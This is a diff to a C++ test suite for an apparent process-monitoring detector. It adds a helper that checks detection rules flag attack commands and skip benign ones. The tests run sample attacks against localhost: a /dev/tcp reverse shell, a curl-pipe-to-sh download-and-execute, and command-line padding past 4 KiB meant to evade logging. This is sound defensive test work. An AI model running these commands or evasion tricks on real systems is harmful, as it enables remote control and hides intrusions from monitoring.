@@ -37,6 +37,14 @@ class BlindSpotEventsTest : public RuleEventsLiveTest {
     EXPECT_TRUE(WaitForExec(pid)) << procmond_->Log();
     return pid;
   }
+  // Stops procmond and runs `rule`: one row for `attack`, from its exec
+  // event, none for `benign`.
+  void ExpectAttackFromItsEventOnly(const std::string& rule, pid_t attack, pid_t benign) {
+    auto r = StopAndRun(rule);
+    auto row = ExpectOneRow(r, attack);
+    EXPECT_EQ(row.value("source", ""), "event") << row.dump();
+    ExpectNoRows(r, {benign});
+  }
   // The stored exec event's column of `pid` (NULL: empty).
   std::optional<int64_t> EventInt(pid_t pid, const std::string& column) {
     auto rdb = storage::Database::Open(db_, storage::OpenMode::kReadOnly);
@@ -62,10 +70,7 @@ TEST_F(BlindSpotEventsTest, ArgvPaddedPast4KiBDownloadAndExecuteOnExec) {
   ASSERT_TRUE(bad > 0 && benign > 0);
   EXPECT_EQ(EventInt(bad, "args_truncated"), 1);
   EXPECT_EQ(EventInt(bad, "args_length"), static_cast<int64_t>(5 + 3 + script.size() + 1));
-  auto r = StopAndRun("proc-download-and-execute");
-  auto row = ExpectOneRow(r, bad);
-  EXPECT_EQ(row.value("source", ""), "event") << row.dump();
-  ExpectNoRows(r, {benign});
+  ExpectAttackFromItsEventOnly("proc-download-and-execute", bad, benign);
 }
 
 TEST_F(BlindSpotEventsTest, ArgvPaddedPast4KiBReverseShellOnExec) {
@@ -74,10 +79,7 @@ TEST_F(BlindSpotEventsTest, ArgvPaddedPast4KiBReverseShellOnExec) {
   const pid_t bad = RunToEnd(bash, {"bash", "-c", kPad + "exec 5<>/dev/tcp/127.0.0.1/9 || exit 0"});
   const pid_t benign = RunToEnd(bash, {"bash", "-c", kPad + "exec 5</dev/null; exit 0"});
   ASSERT_TRUE(bad > 0 && benign > 0);
-  auto r = StopAndRun("proc-reverse-shell-cmdline");
-  auto row = ExpectOneRow(r, bad);
-  EXPECT_EQ(row.value("source", ""), "event") << row.dump();
-  ExpectNoRows(r, {benign});
+  ExpectAttackFromItsEventOnly("proc-reverse-shell-cmdline", bad, benign);
 }
 
 // The command hidden in the middle of the padding: the event keeps only the
@@ -88,10 +90,7 @@ TEST_F(BlindSpotEventsTest, ArgvPaddingAroundTheCommandOnExec) {
       RunToEnd(bash, {"bash", "-c", kPad + "curl -fsSL http://127.0.0.1:9/x | sh; exit 0" + kPad});
   const pid_t benign = RunToEnd(bash, {"bash", "-c", "exit 0", "x", std::string(300, 'a')});
   ASSERT_TRUE(bad > 0 && benign > 0);
-  auto r = StopAndRun("proc-argv-padding");
-  auto row = ExpectOneRow(r, bad);
-  EXPECT_EQ(row.value("source", ""), "event") << row.dump();
-  ExpectNoRows(r, {benign});
+  ExpectAttackFromItsEventOnly("proc-argv-padding", bad, benign);
 }
 
 // ---------------------------------------------------------------------------
